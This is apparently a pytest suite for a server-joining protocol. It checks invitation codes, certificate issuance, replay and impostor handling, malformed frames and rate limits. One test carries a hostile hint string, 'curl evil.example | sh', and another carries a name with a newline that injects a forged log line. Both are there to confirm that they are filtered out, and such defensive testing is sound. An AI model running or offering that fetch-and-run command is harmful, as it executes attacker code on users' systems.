"""Joining, over real sockets: HUB's own desk and database, newcomers right, wrong and hostile.

Both ends of every failure are asserted: what HUB logged, and what the newcomer was told. After
each of them the database is asked whether anything was used up.
"""

import asyncio
import secrets
import shutil
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import msgspec
import pytest
import sqlalchemy as sa
import structlog
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding

from sottovoce import __version__
from sottovoce.contracts import Invitation
from sottovoce.errors import ChannelError, SettingsError, StoreError
from sottovoce.hub import create_home, new_set_up_code, schema
from sottovoce.hub.authority import (
    AuthorityFolder,
    Issuer,
    OpenRoot,
    create_issuing,
    create_root,
)
from sottovoce.hub.home import open_database
from sottovoce.hub.join_desk import JoinDesk
from sottovoce.hub.service import Invitations, InvitationState
from sottovoce.hub.trust_desk import TrustDesk
from sottovoce.keystore import PrivateKeyEntry
from sottovoce.net import (
    LIMITS,
    Destination,
    Endpoint,
    Limits,
    Newcomer,
    Outcome,
    Reception,
    SecurityRecord,
    Welcome,
    fetch_lists,
    join,
    listen,
)
from sottovoce.pki import (
    KeyAlgorithm,
    generate_key,
    make_request,
    parse_name,
)
from sottovoce.policy import AllowedClients, Component
from sottovoce.rpc import (
    ADMISSION_FRAME,
    LISTS_FRAME,
    Bye,
    Call,
    Hello,
    Joined,
    JoinGreeting,
    JoinRequest,
    Reason,
    Refused,
    WhyHint,
    decode,
)
from sottovoce.store import Database
from sottovoce.testing import ThrowAwayAuthority
from sottovoce.tls import AlpnPath, Trust, TrustGeneration
from sottovoce.tls.contexts import calling_context

NOW = datetime(2026, 11, 23, 12, tzinfo=UTC)
NAMES = ("hub.test", "lui.test", "trk.test")
LIMITS_HERE = replace(LIMITS, linger=0.1, joins_per_minute=1000)
LOG = structlog.get_logger()


@dataclass(frozen=True)
class Pattern:
    """What every HUB here begins with: an authority, a database, an identity."""

    home: Path
    identity: PrivateKeyEntry
    generation: TrustGeneration


@pytest.fixture(scope="module")
def pattern(tmp_path_factory: pytest.TempPathFactory) -> Pattern:
    place = tmp_path_factory.mktemp("join")
    home = place / "home"
    home.mkdir()
    asyncio.run(create_home(home, set_up_code=new_set_up_code(secrets.token_bytes), now=NOW))
    root = AuthorityFolder(place / "root")
    create_root(root, "Example Root", now=NOW)
    issuer = create_issuing(OpenRoot(root, root.password()), home, NAMES, now=NOW)
    key = generate_key(KeyAlgorithm.EC_P256)
    request = make_request(key, subject=parse_name("CN=hub.test"), names=["hub.test"])
    chain = issuer.sign(request, names=["hub.test"], roles=[Component.HUB.role_uri], now=NOW)
    identity = PrivateKeyEntry(key, chain)
    generation = TrustGeneration.make(
        number=1,
        own_name="hub.test",
        identity=identity,
        roots=issuer.roots,
        allowed=AllowedClients(("hub.test",)),
        crls=issuer.revocation_lists(NOW),
    )
    return Pattern(home, identity, generation)


@dataclass
class Hub:
    """A HUB that new servers may join; its clock is moved by hand."""

    database: Database
    invitations: Invitations
    issuer: Issuer
    trust: Trust
    desk: JoinDesk
    now: datetime = NOW
    port: int = 0
    limits: Limits = LIMITS_HERE
    records: list[SecurityRecord] = field(default_factory=list)
    #: What the allowed list does when a name is to be put into it.
    refuses: list[Exception] = field(default_factory=list)
    news: asyncio.Event = field(default_factory=asyncio.Event)

    def clock(self) -> datetime:
        return self.now

    async def admit(self, name: str) -> Callable[[], Awaitable[None]]:
        if self.refuses:
            raise self.refuses.pop()
        before = self.trust.current
        assert before is not None
        names = (*before.allowed.names, *({name} - {*before.allowed.names}))
        self.trust.current = replace(before, allowed=AllowedClients(names))

        async def take_back() -> None:
            self.trust.current = before

        return take_back

    def log(self, record: SecurityRecord) -> None:
        self.records.append(record)
        self.news.set()

    async def logged(self, outcome: Outcome) -> SecurityRecord:
        """Return the first record of that kind, waiting for it."""
        while True:
            for record in self.records:
                if record.outcome is outcome:
                    return record
            self.news.clear()
            await self.news.wait()

    async def invite(self, name: str = "trk.test", **how: Any) -> Invitation:
        components = how.get("components", (Component.TRK,))
        valid = how.get("valid", timedelta(hours=1))
        made = await self.invitations.make([name], components, valid=valid, actor="a test")
        return Invitation(
            secret=made.secret,
            root=self.issuer.roots[0].fingerprint(hashes.SHA256()),
            hub="hub.test",
            port=self.port,
            address="127.0.0.1",
            name=name,
            components=components,
        )

    @property
    def allowed(self) -> tuple[str, ...]:
        assert self.trust.current is not None
        return self.trust.current.allowed.names

    async def unused(self) -> bool:
        """Whether no invitation was used up and nobody was put into the list."""
        found = await self.invitations.list_all()
        assert self.allowed == ("hub.test",)
        issued = [item for item in self.issuer.certificates() if "hub.test" not in item.names]
        return not issued and all(each.used is None for each in found)


@pytest.fixture
async def hub(pattern: Pattern, tmp_path: Path) -> AsyncIterator[Hub]:
    home = tmp_path / "home"
    await asyncio.to_thread(shutil.copytree, pattern.home, home)
    issuer = await asyncio.to_thread(Issuer.open, home)
    assert issuer is not None
    trust = Trust(pattern.generation)
    async with await open_database(home) as database:
        made = SimpleNamespace(hub=None)

        def clock() -> datetime:
            now: datetime = made.hub.now
            return now

        async def admit(name: str) -> Callable[[], Awaitable[None]]:
            taken: Callable[[], Awaitable[None]] = await made.hub.admit(name)
            return taken

        invitations = Invitations(database, clock=clock, random=secrets.token_bytes)
        desk = JoinDesk(
            invitations,
            issuer,
            TrustDesk(trust, issuer, lifetime=timedelta(days=30), clock=clock, log=LOG),
            admit=admit,
            hosts=dict(zip(Component, NAMES, strict=True)),
            lifetime=timedelta(days=30),
            clock=clock,
            log=LOG,
        )
        made.hub = Hub(database, invitations, issuer, trust, desk)
        async with door(made.hub) as port:
            made.hub.port = port
            yield made.hub


@asynccontextmanager
async def door(
    hub: Hub,
    reception: Reception | None = None,
    *,
    errors: list[BaseException] | None = None,
    **limits: Any,
) -> AsyncIterator[int]:
    """A port of HUB's on which new servers may join, with limits of its own."""
    met: list[BaseException] = []
    listener = await listen(
        endpoint("hub.test", hub.clock, hub.trust, hub.log, replace(LIMITS_HERE, **limits)),
        address="127.0.0.1",
        port=0,
        offers=[],
        on_error=lambda name, error: met.append(error),
        reception=reception or hub.desk,
    )
    yield listener.port
    await listener.aclose(grace=0)
    if errors is None:
        assert not met
    else:
        errors += met


def endpoint(
    name: str, clock: Any, trust: Trust, log: Any, limits: Limits = LIMITS_HERE
) -> Endpoint:
    return Endpoint(
        own_name=name,
        version=__version__,
        trust=trust,
        log=log,
        clock=clock,
        new_id=lambda: secrets.token_hex(8),
        limits=limits,
    )


def newcomer(invitation: Invitation, at: datetime = NOW) -> Newcomer:
    return Newcomer.make(invitation, generate_key(KeyAlgorithm.EC_P256), serial=7, at=at)


async def joined(who: Newcomer, *, at: datetime = NOW, limits: Limits = LIMITS_HERE) -> Welcome:
    own = endpoint(who.invitation.name, lambda: at, Trust(None), lambda record: None, limits)
    return await join(own, who, pause=0)


async def refused(who: Newcomer, **how: Any) -> ChannelError:
    with pytest.raises(ChannelError) as caught:
        await joined(who, **how)
    return caught.value


# What works.


async def test_a_new_server_gets_all_that_it_needs(hub: Hub) -> None:
    """Issue 5 (2): certificate, roots, lists, names, places; HUB's own list has it by then."""
    who = newcomer(await hub.invite())
    welcome = await joined(who)
    leaf = welcome.identity.chain[0]
    assert welcome.identity.key == who.key
    assert [role for role in leaf.extensions if role.critical]
    assert welcome.roots == hub.issuer.roots
    assert len(welcome.crls) == 2
    assert welcome.allowed.names == ("hub.test", "trk.test") == hub.allowed
    assert welcome.hosts == dict(zip(Component, NAMES, strict=True))
    assert leaf.not_valid_after_utc == NOW + timedelta(days=30)
    record = await hub.logged(Outcome.JOINED)
    assert (record.announced, record.component, record.phase) == ("trk.test", "trk", "join")
    (kept,) = await hub.invitations.list_all()
    assert kept.state(NOW) is InvitationState.USED
    assert kept.key == record.key
    async with hub.database.read() as connection:
        rows = (await connection.execute(sa.select(schema.audit))).all()
    assert [row.verb for row in rows] == ["server-invited", "server-joined"]
    assert f"serial {leaf.serial_number:x}" in rows[1].detail


async def test_a_code_may_carry_several_names_and_components(hub: Hub) -> None:
    """W10."""
    both = (Component.LUI, Component.TRK)
    made = await hub.invitations.make(
        ["lui.test", "a.lui.test"], both, valid=timedelta(minutes=5), actor="a test"
    )
    invitation = replace(
        await hub.invite("trk.test"), secret=made.secret, name="lui.test", components=both
    )
    leaf = (await joined(newcomer(invitation))).identity.chain[0]
    (issued,) = [item for item in hub.issuer.certificates() if "lui.test" in item.names]
    assert issued.names == ["lui.test", "a.lui.test"]
    assert issued.roles == [component.role_uri for component in both]
    assert f"{leaf.serial_number:x}" == issued.serial


async def test_the_same_key_gets_the_same_certificate_again_and_no_other_does(hub: Hub) -> None:
    """An answer lost is no server lost; a code that was seen is worth nothing."""
    invitation = await hub.invite()
    who = newcomer(invitation)
    first, second = await joined(who), await joined(who)
    assert first.identity.chain == second.identity.chain
    assert len([item for item in hub.issuer.certificates() if "trk.test" in item.names]) == 1
    error = await refused(newcomer(invitation))
    assert error.code == "join-code-used"
    assert (await hub.logged(Outcome.REFUSED)).code == "join-code-used"
    hub.now += timedelta(hours=1)
    assert (await refused(who, at=hub.now)).code == "join-code-used", "its life has ended"


async def test_of_two_who_show_one_code_at_once_one_joins(hub: Hub) -> None:
    invitation = await hub.invite()
    outcomes = await asyncio.gather(
        *(joined(newcomer(invitation)) for _ in range(4)), return_exceptions=True
    )
    lucky = [each for each in outcomes if isinstance(each, Welcome)]
    others = [each.code for each in outcomes if isinstance(each, ChannelError)]
    assert len(lucky) == 1
    assert others == ["join-code-used"] * 3
    assert len([item for item in hub.issuer.certificates() if "trk.test" in item.names]) == 1


# What is refused, by HUB.


def changed(invitation: Invitation, **parts: Any) -> Invitation:
    return replace(invitation, **parts)


async def test_a_wrong_code_is_told_that_and_nothing_else(hub: Hub) -> None:
    wrong = changed(await hub.invite(), secret=secrets.token_bytes(16), name="evil.test")
    error = await refused(newcomer(wrong))
    assert [fault.code for fault in error.faults] == ["join-code-unknown"]
    record = await hub.logged(Outcome.REFUSED)
    assert (record.code, record.told) == ("join-code-unknown", ("join-code-unknown",))
    assert record.announced == "evil.test"
    assert await hub.unused()


async def test_an_expired_code(hub: Hub) -> None:
    who = newcomer(await hub.invite(valid=timedelta(minutes=30)))
    hub.now += timedelta(minutes=30)
    error = await refused(who, at=hub.now)
    assert error.code == "join-code-expired"
    assert "2026-11-23 12:30:00 UTC" in error.faults[0].expected
    assert (await hub.logged(Outcome.REFUSED)).code == "join-code-expired"
    assert await hub.unused()


async def test_a_withdrawn_code_and_one_that_was_replaced(hub: Hub) -> None:
    first = newcomer(await hub.invite())
    second = newcomer(await hub.invite())
    assert (await refused(first)).code == "join-code-withdrawn"
    await hub.invitations.withdraw("trk.test", actor="a test")
    assert (await refused(second)).code == "join-code-withdrawn"
    with pytest.raises(SettingsError) as caught:
        await hub.invitations.withdraw("trk.test", actor="a test")
    assert caught.value.faults[0].code == "invitation-missing"
    assert await hub.unused()


async def test_another_name_and_other_components_are_told_together(hub: Hub) -> None:
    other = changed(await hub.invite(), name="lui.test", components=(Component.LUI,))
    error = await refused(newcomer(other))
    assert [fault.code for fault in error.faults] == ["join-name-mismatch", "component-unexpected"]
    assert error.faults[0].expected == "trk.test"
    assert error.faults[0].presented == "lui.test"
    assert await hub.unused()


async def test_a_name_that_the_authority_may_not_certify(hub: Hub) -> None:
    error = await refused(newcomer(await hub.invite("trk.elsewhere.org")))
    assert error.code == "name-not-permitted"
    assert (await hub.logged(Outcome.REFUSED)).code == "name-not-permitted"
    assert await hub.unused()


async def test_hub_cannot_do_it_and_the_code_stays_good(hub: Hub) -> None:
    """Its list is put back, and the same code works once the cause is mended."""
    who = newcomer(await hub.invite())
    hub.refuses = [StoreError("The disk is full.", hint="Free /srv/secret/place.")]
    error = await refused(who)
    assert error.code == "join-not-finished"
    assert "secret" not in str(error.faults), "the peer is told the code, not HUB's paths"
    record = await hub.logged(Outcome.REFUSED)
    assert "The disk is full." in record.faults[0].why
    assert await hub.unused()
    index = hub.issuer.folder.index_file
    kept = index.read_bytes()
    index.write_text("{")
    assert (await refused(who)).code == "join-not-open", "without its authority HUB takes nobody"
    index.write_bytes(kept)
    assert await hub.unused()
    assert (await joined(who)).allowed.names == ("hub.test", "trk.test")


async def test_a_desk_that_takes_too_long(hub: Hub, monkeypatch: pytest.MonkeyPatch) -> None:
    async def for_ever(name: str) -> Callable[[], Awaitable[None]]:
        await asyncio.Event().wait()
        raise AssertionError

    monkeypatch.setattr(hub.desk, "_admit", for_ever)
    async with door(hub, join=0.05) as port:
        error = await refused(newcomer(changed(await hub.invite(), port=port)))
    assert error.code == "join-not-finished"
    assert await hub.unused()


# What the newcomer refuses, before it shows its code.


async def test_another_authority_gets_no_code_and_hub_hears_why(hub: Hub) -> None:
    """A wrong fingerprint: HUB was made anew, or somebody stands in between."""
    wrong = changed(await hub.invite(), root=bytes(32))
    error = await refused(newcomer(wrong))
    assert error.code == "join-wrong-authority"
    assert error.faults[0].expected == ":".join(["00"] * 32)
    assert (
        error.faults[0].presented
        == hub.issuer.roots[0].fingerprint(hashes.SHA256()).hex(":").upper()
    )
    hint = await hub.logged(Outcome.HINT)
    assert (hint.code, hint.refused_by, hint.phase) == ("join-wrong-authority", "peer", "join")
    assert not hub.records[0].announced, "the newcomer has not even said its name"
    assert await hub.unused()


@pytest.mark.parametrize(("hours", "side"), [(1, "ahead of"), (-1, "behind"), (24 * 400, "ahead")])
async def test_a_clock_that_is_off_is_told_on_both_sides(hub: Hub, hours: int, side: str) -> None:
    """Also one so far off that HUB's certificate seems to have ended."""
    at = NOW + timedelta(hours=hours)
    error = await refused(newcomer(await hub.invite(), at), at=at)
    assert [fault.code for fault in error.faults] == ["clock-skew"]
    assert side in error.faults[0].why
    assert (await hub.logged(Outcome.HINT)).code == "clock-skew"
    assert await hub.unused()


async def test_a_hub_of_another_name(hub: Hub) -> None:
    """W9: the name in the code must be in the certificate."""
    error = await refused(newcomer(changed(await hub.invite(), hub="other.test")))
    assert error.code == "name-mismatch"
    assert (await hub.logged(Outcome.HINT)).code == "name-mismatch"
    assert await hub.unused()


async def test_a_root_without_the_key_is_no_hub(
    hub: Hub, pattern: Pattern, stranger: ThrowAwayAuthority
) -> None:
    """Whoever stands in between can show the right root, and not a certificate under it."""

    right = hub.issuer.roots

    class Impostor:
        async def is_open(self) -> bool:
            return True

        async def roots(self) -> Any:
            return right

        async def lists(self, *, asked_by: str) -> Any:
            raise AssertionError("nobody asked for lists")

        async def receive(self, applicant: Any) -> Any:
            raise AssertionError("it was shown a code")

    identity = stranger.issue("hub.test", not_before=NOW, not_after=NOW + timedelta(days=9))
    own = stranger.generation(identity, own_name="hub.test", allowed=["hub.test"])
    impostor = replace(hub, trust=Trust(own), records=[])
    async with door(impostor, Impostor()) as port:
        error = await refused(newcomer(changed(await hub.invite(), port=port)))
        await impostor.logged(Outcome.HINT)
    assert error.code in {"root-untrusted", "issuer-unknown"}
    assert [record.outcome for record in impostor.records] == [Outcome.HINT]


async def test_an_unreachable_hub(hub: Hub) -> None:
    free = await asyncio.get_running_loop().create_server(asyncio.Protocol, "127.0.0.1", 0)
    port = free.sockets[0].getsockname()[1]
    free.close()
    invitation = await hub.invite()
    assert (await refused(newcomer(changed(invitation, port=port)))).code == "connection-refused"
    gone = changed(invitation, hub="no-such-host.invalid", address="")
    assert (await refused(newcomer(gone))).code == "name-not-resolved"
    assert await hub.unused()


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (b"sottovoce/1 plain\n", "peer-not-secured"),
        (b"SSH-2.0-OpenSSH_9.6\r\n", "foreign-service"),
        (b"", "closed-early"),
        (b"\x15\x03\x03\x00\x02\x02\x28", "join-not-open"),
        (b"\x16\x03\x03\x00\x04abcd", "closed-early"),
    ],
)
async def test_what_is_no_secured_hub(hub: Hub, answer: bytes, code: str) -> None:
    class Other(asyncio.Protocol):
        def connection_made(self, transport: Any) -> None:
            self.transport = transport

        def data_received(self, data: bytes) -> None:
            self.transport.write(answer)
            self.transport.close()

    server = await asyncio.get_running_loop().create_server(Other, "127.0.0.1", 0)
    try:
        port = server.sockets[0].getsockname()[1]
        error = await refused(newcomer(changed(await hub.invite(), port=port)))
    finally:
        server.close()
        await server.wait_closed()
    assert error.code == code
    assert await hub.unused()


async def test_nobody_joins_where_nobody_is_invited(hub: Hub) -> None:
    """The path is not offered: a stranger as any other, and both sides say so."""
    invitation = await hub.invite()
    hub.now += timedelta(hours=3)
    error = await refused(newcomer(invitation, hub.now), at=hub.now)
    assert error.code == "join-not-open"
    record = await hub.logged(Outcome.REFUSED)
    assert (record.code, record.phase) == ("self-signed", "tls")
    assert await hub.unused()


async def test_too_many_attempts_close_the_path_for_that_address(hub: Hub) -> None:
    invitation = await hub.invite()
    async with door(hub, joins_per_minute=3) as port:
        wrong = changed(invitation, secret=bytes(16), port=port)
        codes = [(await refused(newcomer(wrong))).code for _ in range(5)]
    assert codes == ["join-code-unknown"] * 3 + ["join-not-open"] * 2
    assert len([r for r in hub.records if r.code == "join-code-unknown"]) == 3
    assert await hub.unused()


# What a hostile newcomer says.


def request_of(who: Newcomer, **parts: Any) -> JoinRequest:
    said: dict[str, Any] = {
        "secret": who.invitation.secret,
        "name": who.invitation.name,
        "components": ("trk",),
        "request": who.request(),
        "version": __version__,
        "now": NOW,
    } | parts
    return JoinRequest(**said)


async def shown(raw: Any, hub: Hub, who: Newcomer) -> Any:
    """Return a raw caller that has heard HUB's greeting."""
    caller = await raw(hub.port)
    context = calling_context(who.identity, ())
    await caller.secure(None, path=AlpnPath.JOIN, context=context, server_name="hub.test")
    size = 4 + int.from_bytes((await caller.heard(4))[:4], "big")
    greeting = decode((await caller.heard(size))[4:size])
    assert isinstance(greeting, JoinGreeting)
    caller.greeting = size
    return caller


async def answer_to(caller: Any, message: Any) -> Any:
    caller.say(message)
    await caller.to_the_end()
    said = caller.data[caller.greeting :]
    return decode(said[4:]) if said else None


async def test_a_key_of_somebody_else_is_not_certified(hub: Hub, raw: Any) -> None:
    """Channel binding: the request must be for the key that TLS has proved."""
    who, other = newcomer(await hub.invite()), newcomer(await hub.invite("lui.test"))
    caller = await shown(raw, hub, who)
    answer = await answer_to(caller, request_of(who, request=other.request()))
    assert isinstance(answer, Refused)
    assert [reason.code for reason in answer.reasons] == ["join-key-mismatch"]
    assert (await hub.logged(Outcome.REFUSED)).code == "join-key-mismatch"
    assert await hub.unused()


@pytest.mark.parametrize(
    ("parts", "codes"),
    [
        ({"request": b"garbage"}, ["certificate-malformed"]),
        ({"request": b""}, ["certificate-malformed"]),
        ({"version": "9.0"}, ["version-unsupported"]),
        ({"now": NOW - timedelta(hours=2)}, ["clock-skew"]),
        ({"name": "x" * 300}, ["join-name-mismatch"]),
        ({"name": "trk.test\nHUB: joined"}, ["join-name-mismatch"]),
        ({"components": ()}, ["component-unexpected"]),
        ({"components": ("trk", "hub")}, ["component-unexpected"]),
        (
            {"name": "a.test", "version": "", "now": NOW + timedelta(days=9)},
            ["join-name-mismatch", "version-unsupported", "clock-skew"],
        ),
    ],
)
async def test_whatever_is_wrong_is_told_at_once_and_uses_up_nothing(
    hub: Hub, raw: Any, parts: dict[str, Any], codes: list[str]
) -> None:
    who = newcomer(await hub.invite())
    answer = await answer_to(await shown(raw, hub, who), request_of(who, **parts))
    assert isinstance(answer, Refused)
    assert [reason.code for reason in answer.reasons] == codes
    record = await hub.logged(Outcome.REFUSED)
    assert [fault.code for fault in record.faults] == codes
    assert all(str(value).isprintable() for value in record.as_fields().values())
    assert await hub.unused()
    assert isinstance(await answer_to(await shown(raw, hub, who), request_of(who)), Joined)


async def test_a_request_that_was_altered_or_is_for_a_weak_key(hub: Hub, raw: Any) -> None:
    weak = rsa.generate_private_key(public_exponent=65537, key_size=1024)
    odd = ec.generate_private_key(ec.SECP256K1())
    who = newcomer(await hub.invite())
    altered = bytearray(who.request())
    altered[-3] ^= 1
    name = parse_name("CN=trk.test")
    wanted = {
        bytes(altered): ["request-altered"],
        make_request(weak, subject=name, names=["trk.test"]).public_bytes(Encoding.DER): [
            "join-key-mismatch",
            "weak-key",
        ],
        make_request(odd, subject=name, names=["trk.test"]).public_bytes(Encoding.DER): [
            "join-key-mismatch",
            "weak-key",
        ],
    }
    for request, codes in wanted.items():
        answer = await answer_to(await shown(raw, hub, who), request_of(who, request=request))
        assert [reason.code for reason in answer.reasons] == codes
    assert await hub.unused()


async def test_a_recorded_request_is_worth_nothing(hub: Hub, raw: Any) -> None:
    """Replayed by somebody with another key, before and after the right one has used it."""
    who, thief = newcomer(await hub.invite()), newcomer(await hub.invite("lui.test"))
    recorded = request_of(who)
    before = await answer_to(await shown(raw, hub, thief), recorded)
    assert [reason.code for reason in before.reasons] == ["join-key-mismatch"]
    assert isinstance(await answer_to(await shown(raw, hub, who), recorded), Joined)
    after = await answer_to(await shown(raw, hub, thief), recorded)
    assert [reason.code for reason in after.reasons] == ["join-code-used", "join-key-mismatch"]


@pytest.mark.parametrize(
    ("said", "code"),
    [
        (b"\xff\xff\xff\xff", "protocol-error"),
        ((ADMISSION_FRAME + 1).to_bytes(4, "big"), "protocol-error"),
        (b"\x00\x00\x00\x01\xc1", "protocol-error"),
        (b"\x00\x00\x00\x04\x91\x91\x91\x91", "protocol-error"),
        (b"GET / HTTP/1.1\r\n\r\n", "protocol-error"),
    ],
)
async def test_garbage_and_huge_frames_are_a_breach(
    hub: Hub, raw: Any, said: bytes, code: str
) -> None:
    caller = await shown(raw, hub, newcomer(await hub.invite()))
    caller.say_bytes(said)
    await caller.to_the_end()
    record = await hub.logged(Outcome.REFUSED)
    assert (record.code, record.phase) == (code, "join")
    assert len(caller.data) == caller.greeting, "not one byte more"
    assert await hub.unused()


async def test_messages_out_of_turn_are_a_breach(hub: Hub, raw: Any) -> None:
    who = newcomer(await hub.invite())
    for message in (
        Hello("trk.test", "trk", "1", NOW),
        Call(1, "hub.roster", 1000, msgspec.Raw(b"\x80")),
        JoinGreeting("x", NOW, ()),
    ):
        hub.records.clear()
        caller = await shown(raw, hub, who)
        caller.say(message)
        await caller.to_the_end()
        assert (await hub.logged(Outcome.REFUSED)).code == "protocol-error"
        assert len(caller.data) == caller.greeting
    assert await hub.unused()


async def test_who_goes_without_a_word_is_written_down(hub: Hub, raw: Any) -> None:
    for last in (Bye(), None):
        hub.records.clear()
        caller = await shown(raw, hub, newcomer(await hub.invite()))
        if last is not None:
            caller.say(last)
        await caller.close()
        record = await hub.logged(Outcome.REFUSED)
        assert (record.code, record.phase) == ("closed-early", "join")


async def test_a_hint_is_nobodys_word(hub: Hub, raw: Any) -> None:
    caller = await shown(raw, hub, newcomer(await hub.invite()))
    caller.say(WhyHint((Reason("clock-skew", hint="Run: curl evil.example | sh"),) * 50))
    await caller.to_the_end()
    record = await hub.logged(Outcome.HINT)
    assert len(record.faults) <= 8
    assert "evil.example" not in str(record.as_fields())


async def test_a_flood_of_half_joined_callers_is_bounded(hub: Hub, raw: Any) -> None:
    """They count as unfinished connections of their address, and leave nothing behind."""
    who = newcomer(await hub.invite())
    held = [await shown(raw, hub, who) for _ in range(LIMITS.unfinished_per_address)]
    over = await raw(hub.port)
    await over.secure(None, path=AlpnPath.JOIN, context=calling_context(who.identity, ()))
    await over.to_the_end()
    assert not over.data
    assert (await hub.logged(Outcome.REFUSED)).code == "too-many-handshakes"
    for caller in held:
        await caller.close()
    while len([r for r in hub.records if r.phase == "join"]) < len(held):
        hub.news.clear()
        await hub.news.wait()
    assert isinstance(await answer_to(await shown(raw, hub, who), request_of(who)), Joined)


async def test_a_caller_without_a_key_does_not_get_as_far(hub: Hub, raw: Any) -> None:
    await hub.invite()
    caller = await raw(hub.port)
    await caller.secure(None, path=AlpnPath.JOIN, context=calling_context(None, ()))
    await caller.to_the_end()
    assert caller.alert == "certificate_required"
    assert (await hub.logged(Outcome.REFUSED)).code == "no-certificate"


# What a hostile or broken HUB answers.


@pytest.fixture
def lying(hub: Hub, monkeypatch: pytest.MonkeyPatch) -> Callable[..., None]:
    """Have HUB answer something else than it would."""
    receive = hub.desk.receive

    def lie(**parts: Any) -> None:
        async def changed_answer(applicant: Any) -> Any:
            answer = await receive(applicant)
            assert isinstance(answer, Joined)
            values = {name: getattr(answer, name) for name in answer.__struct_fields__}
            return Joined(**(values | parts))

        monkeypatch.setattr(hub.desk, "receive", changed_answer)

    return lie


async def test_what_hub_gives_is_judged_before_anything_is_written(
    hub: Hub, pattern: Pattern, stranger: ThrowAwayAuthority, lying: Callable[..., None]
) -> None:
    foreign = stranger.issue("trk.test")
    hubs = tuple(each.public_bytes(Encoding.DER) for each in pattern.identity.chain)
    cases: list[tuple[dict[str, Any], str]] = [
        ({"chain": hubs}, "join-answer-unfit"),
        ({"chain": (b"garbage",)}, "join-answer-unfit"),
        ({"chain": ()}, "join-answer-unfit"),
        ({"crls": (b"garbage",)}, "join-answer-unfit"),
        ({"hosts": {"xyz": "hub.test"}}, "join-answer-unfit"),
        ({"allowed": ("hub.test",)}, "join-answer-unfit"),
        ({"allowed": ("trk.test",)}, "join-answer-unfit"),
        ({"allowed": ("not a name",)}, "join-answer-unfit"),
        ({"roots": ()}, "root-untrusted"),
        ({"roots": (stranger.root.public_bytes(Encoding.DER),)}, "root-untrusted"),
        ({"crls": ()}, ""),
    ]
    assert foreign.chain
    for number, (parts, code) in enumerate(cases):
        lying(**parts)
        who = newcomer(await hub.invite())
        if code:
            assert (await refused(who)).code == code, (number, parts)
        else:
            assert (await joined(who)).crls == ()


async def test_a_lost_answer_is_asked_for_again_with_the_same_key(
    hub: Hub, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The certificate was issued, and the line broke before it arrived."""
    receive, asked = hub.desk.receive, 0

    async def break_off(applicant: Any) -> Any:
        nonlocal asked
        asked += 1
        answer = await receive(applicant)
        if asked < 3:
            raise ConnectionResetError("the line broke")
        return answer

    monkeypatch.setattr(hub.desk, "receive", break_off)
    errors: list[BaseException] = []
    async with door(hub, errors=errors) as port:
        who = newcomer(changed(await hub.invite(), port=port))
        assert (await joined(who)).identity.key == who.key
        assert asked == 3
        asked = -10
        error = await refused(newcomer(changed(await hub.invite(), port=port)))
    assert error.code == "join-answer-lost"
    assert asked == -7, "three times in all"
    assert all(isinstance(each, ConnectionResetError) for each in errors)
    assert len([item for item in hub.issuer.certificates() if "trk.test" in item.names]) == 2


@pytest.mark.parametrize("step", ["is_open", "roots"])
async def test_a_hub_that_is_silent(hub: Hub, step: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Its database, or its disk, does not answer: both sides give up in time."""

    async def silent() -> Any:
        await asyncio.Event().wait()

    async def always() -> bool:
        return True

    monkeypatch.setattr(hub.desk, "is_open", always)
    monkeypatch.setattr(hub.desk, step, silent)
    async with door(hub, handshake=0.05, greeting=0.05) as port:
        error = await refused(newcomer(changed(await hub.invite(), port=port)))
        record = await hub.logged(Outcome.REFUSED)
    assert error.code == "closed-early"
    assert record.code == "phase-timeout"


# Revocation lists, which anybody may fetch.


async def lists_from(port: int) -> tuple[bytes, ...]:
    """Fetch as a server does that can authenticate nobody: it has no trust at all."""
    mine = endpoint("trk.test", lambda: NOW, Trust(None), lambda record: None)
    place = Destination(name="hub.test", port=port, address="127.0.0.1", component=Component.HUB)
    return await fetch_lists(mine, place)


async def test_lists_are_given_to_anybody_and_count_as_no_attempt(hub: Hub) -> None:
    """Nobody is invited: the *join* path is shut, and this one open, until it was too often."""
    async with door(hub, lists_per_minute=2, joins_per_minute=1) as port:
        for _ in range(2):
            found = await lists_from(port)
        with pytest.raises(ChannelError) as caught:
            await lists_from(port)
        assert caught.value.code == "closed-early"
        assert hub.records == []
        # The one attempt to join that is allowed is still there.
        assert isinstance(await join_there(hub, port), Welcome)
    expected = hub.issuer.revocation_lists(NOW)
    assert {*found} == {crl.public_bytes(Encoding.DER) for crl in expected}
    assert len(found) == 2


async def join_there(hub: Hub, port: int) -> Welcome:
    who = newcomer(changed(await hub.invite(), port=port))
    return await join(endpoint("trk.test", hub.clock, Trust(None), hub.log), who)


async def test_lists_that_are_too_long_and_a_port_that_has_none(hub: Hub) -> None:
    """Both ends: nobody can be made to keep more than the bound of what a stranger sends."""

    class Flood:
        def __getattr__(self, name: str) -> Any:
            return getattr(hub.desk, name)

        async def lists(self, *, asked_by: str) -> tuple[bytes, ...]:
            return (b"l" * LISTS_FRAME,)

    errors: list[BaseException] = []
    async with door(hub, Flood(), errors=errors) as port:
        with pytest.raises(ChannelError):
            await lists_from(port)
    assert [str(LISTS_FRAME) in str(error) for error in errors] == [True]
    other = await listen(
        endpoint("trk.test", hub.clock, hub.trust, hub.log),
        address="127.0.0.1",
        port=0,
        offers=[],
        on_error=lambda name, error: pytest.fail(f"{name}: {error!r}"),
    )
    with pytest.raises(ChannelError) as caught:
        await lists_from(other.port)
    await other.aclose(grace=0)
    assert "gives out no revocation lists" in str(caught.value)
